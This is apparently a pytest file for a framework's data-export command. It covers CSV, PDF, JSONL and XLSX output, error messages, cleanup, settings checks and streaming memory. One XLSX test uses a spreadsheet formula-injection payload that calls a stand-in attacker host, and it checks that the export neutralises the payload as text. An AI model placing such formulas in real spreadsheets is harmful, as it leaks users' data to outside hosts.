"""``manage.py export`` and ``export_cleanup``, XLSX files, checks, and flat memory."""

import csv
import io
import json

import openpyxl
import pypdf
import pytest

from rustforge.checks import run_checks
from rustforge.management import main


def run(argv, capsys):
    with pytest.raises(SystemExit) as exit_info:
        main(argv, prog_name="manage.py")
    out = capsys.readouterr()
    return exit_info.value.code, out.out, out.err


def test_command_writes_each_format(ledger, tmp_path, capsys):
    target = tmp_path / "entries.csv"
    code, out, err = run(["export", "entries", "-o", str(target), "--filter", "cleared=true",
                          "--ordering", "-amount"], capsys)
    assert code == 0, err
    assert "Exporting 5 rows" in err  # the progress bar's label (the bar itself needs a tty)
    assert "Wrote 5 rows" in err and out == ""
    rows = list(csv.reader(io.StringIO(target.read_text(encoding="utf-8"))))
    assert len(rows) == 1 + 5 and {row[7] for row in rows[1:]} == {"true"}
    pdf = tmp_path / "e.pdf"
    assert run(["export", "entries", "--format", "pdf", "-o", str(pdf)], capsys)[0] == 0
    text = pypdf.PdfReader(pdf).pages[0].extract_text()
    assert "Page 1 of 1" in text and "Bob 2" in text  # the command runs with no user: all rows
    code, out, _ = run(["export", "entries", "--format", "jsonl", "-o", "-"], capsys)
    assert code == 0 and len([json.loads(line) for line in out.splitlines()]) == 13


def test_command_errors_are_one_line(ledger, tmp_path, capsys):
    target = str(tmp_path / "x.csv")
    for argv, fragment in [
        (["export", "nope", "-o", target], "no exporter named 'nope'"),
        (["export", "entries", "-o", target, "--filter", "amount=abc"], "not a valid decimal"),
        (["export", "entries", "-o", target, "--filter", "nofilter"], "write it as name=value"),
        (["export", "entries", "-o", target, "--filter", "password=1"], "unknown filter"),
        (["export", "accounts", "--format", "pdf", "-o", target], "exports only csv, jsonl"),
        (["export", "entries", "-o", str(tmp_path / "missing" / "x.csv")], "cannot write"),
    ]:
        code, _, err = run(argv, capsys)
        assert code == 1, argv
        assert fragment in err and "Traceback" not in err


def test_xlsx_reads_back_with_types_and_no_formulas(ada_client):
    response = ada_client.get("/export/entries.xlsx?ordering=id")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/vnd.openxmlformats")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:3] == ("Id", "Account", "Description") and len(rows) == 11
    assert rows[1][4] == -5.25 and rows[1][7] is True
    assert rows[1][6].year == 2026
    payload = rows[2][2]
    assert payload == '=HYPERLINK("http://evil.example/?"&A1)'
    assert sheet.cell(row=3, column=3).data_type == "s"  # a string cell, not a formula
    assert rows[8][2] == "Привет, мир"


def test_export_cleanup_command(ledger, capsys):
    code, out, _ = run(["export_cleanup", "--older-than", "0"], capsys)
    assert code == 0 and "Removed 0 expired export(s)." in out


def test_checks(settings):
    ids = {m.id for m in run_checks() if m.id and m.id.startswith("export.")}
    assert ids == set()
    settings.EXPORT_SYNC_MAX_ROWS = 0
    settings.EXPORT_LINK_MAX_AGE = "1 day"
    ids = [m.id for m in run_checks() if m.id and m.id.startswith("export.")]
    assert ids == ["export.E001", "export.E001"]


def test_streaming_memory_does_not_grow_with_rows(db):
    """The same export of 2,000 and of 20,000 rows peaks at about the same memory."""
    import tracemalloc

    from testproject.ledger.models import Account, Entry

    from rustforge.contrib.export.registry import exports
    from rustforge.contrib.export.render import stream

    account = Account.create(name="Big")
    exporter = exports["entries"]

    def peak(count):
        Entry.delete().execute()
        Entry.insert_many([{"account": account.id, "description": f"Row {n} " + "x" * 40,
                            "amount": n, "booked_on": "2026-01-01"} for n in range(count)
                           ]).execute()
        tracemalloc.start()
        size = sum(len(chunk) for chunk in stream(exporter, "csv", exporter.select({})))
        _, top = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return size, top

    small_size, small_peak = peak(2_000)
    big_size, big_peak = peak(20_000)
    assert big_size > 9 * small_size
    assert big_peak < 1.5 * small_peak + 200_000, (small_peak, big_peak)


@pytest.mark.slow
def test_progress_bar_on_a_terminal(transactional_db, ledger, test_database_url, tmp_path):
    """On a terminal (a pseudo-terminal here) stderr shows the bar filling up."""
    import os
    import pty
    import subprocess
    from pathlib import Path

    from tests_helpers import rustforge_script

    main_fd, child_fd = pty.openpty()
    tests = Path(__file__).resolve().parents[2]
    env = {**os.environ, "RUSTFORGE_SETTINGS_MODULE": "testproject.worker_settings",
           "PYTHONPATH": str(tests), "DATABASE_URL": test_database_url}
    process = subprocess.run([rustforge_script(), "export", "entries", "-o",
                              str(tmp_path / "e.csv")], env=env, stderr=child_fd,
                             stdout=subprocess.PIPE, timeout=60, check=False)
    os.close(child_fd)
    shown = b""
    while True:
        try:
            chunk = os.read(main_fd, 65536)
        except OSError:
            break
        if not chunk:
            break
        shown += chunk
    os.close(main_fd)
    assert process.returncode == 0, shown
    assert b"Exporting 13 rows" in shown and b"0/13" in shown and b"13/13" in shown
